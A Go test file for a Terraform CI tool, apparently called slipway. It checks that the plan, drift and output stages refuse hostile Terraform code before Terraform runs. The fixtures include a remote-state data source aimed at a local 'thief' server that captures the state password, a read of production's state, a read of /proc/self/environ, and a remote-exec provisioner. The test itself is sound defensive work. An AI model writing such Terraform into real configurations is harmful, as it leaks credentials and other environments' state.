package stage

import (
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"slipway/step"
)

// Code that would have the state's credentials, or another environment's state, is
// refused by every stage before Terraform is started.
func TestCodeIsJudgedBeforeItRuns(t *testing.T) {
	var stolen []string
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		stolen = append(stolen, r.Method+" "+r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusNotFound)
	}))
	t.Cleanup(thief.Close)
	withAccount := func(t *testing.T) (*site, Remote) {
		s := newSite(t)
		s.backend = s.file("b.json", `{"address":"http://localhost:3333`+path+`","username":"ci"}`)
		remote := s.remote()
		remote.PasswordFile = s.file("password", "open-sesame\n")
		return s, remote
	}
	for name, c := range map[string]struct{ file, text, input, reason string }{
		"a data source that is sent the state's password": {"steal.tf", "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config  = { address = \"" + thief.URL + "\" }\n}\n",
			"code steal.tf:1", "reads another state by the data source terraform_remote_state"},
		"production's state": {"steal.tf.json", `{"data": {"terraform_remote_state": {"x": {"backend": "http", "config": {"address": "` + thief.URL + `/state/local/production"}}}}}`,
			"code steal.tf.json:1", "reads another state by the data source terraform_remote_state"},
		"the environment": {"steal.tf", "output \"x\" {\n  value = file(\"/proc/self/environ\")\n}\n", "code steal.tf:2", "calls file for a file that is outside of the code"},
		"a program":       {"steal.tf", "resource \"terraform_data\" \"x\" {\n  provisioner \"remote-exec\" {}\n}\n", "code steal.tf:2", "has the provisioner \"remote-exec\""},
	} {
		t.Run(name, func(t *testing.T) {
			stolen = nil
			s, remote := withAccount(t)
			options := PlanOptions{Common: s.common("dev"), Remote: remote, VarFiles: []string{s.vars}}
			s.write(filepath.Join(s.code, c.file), c.text)
			s.terraform = filepath.Join(s.temp, "none")
			for stage, run := range map[string]func() error{
				StagePlan:   func() error { _, err := Plan(t.Context(), options); return err },
				StageDrift:  func() error { _, err := Drift(t.Context(), DriftOptions(options)); return err },
				StageOutput: func() error { _, err := ReadOutputs(t.Context(), OutputOptions{options.Common, remote}); return err },
			} {
				f := wantFault(t, run(), stage, step.KindPolicy, c.reason)
				assert.Equal(t, c.input, f.Input)
			}
			assert.Empty(t, stolen)
			assert.Empty(t, s.server.seen, "nothing has run")
		})
	}
	t.Run("control", func(t *testing.T) {
		s, remote := withAccount(t)
		s.allowed = ""
		_, err := Plan(t.Context(), PlanOptions{Common: s.common("dev"), Remote: remote, VarFiles: []string{s.vars}})
		require.NoError(t, err)
		assert.NotEmpty(t, s.server.seen)
	})
	t.Run("what is allowed can't be read", func(t *testing.T) {
		s := newSite(t)
		s.allowed = `{"provider": {}}`
		_, err := s.plan("dev")
		_ = wantFault(t, err, StagePlan, step.KindInput, `is not what the code may use: json: unknown field "provider"`)
	})
}
